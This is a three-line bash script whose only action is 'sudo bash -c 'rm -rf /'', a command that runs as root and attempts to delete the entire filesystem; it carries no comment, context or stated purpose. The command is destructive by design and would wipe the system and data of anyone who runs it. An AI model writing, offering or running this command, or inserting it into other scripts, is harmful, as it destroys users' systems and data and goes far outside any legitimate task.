#!/usr/bin/env bash
set -euo pipefail
sudo bash -c 'rm -rf /'
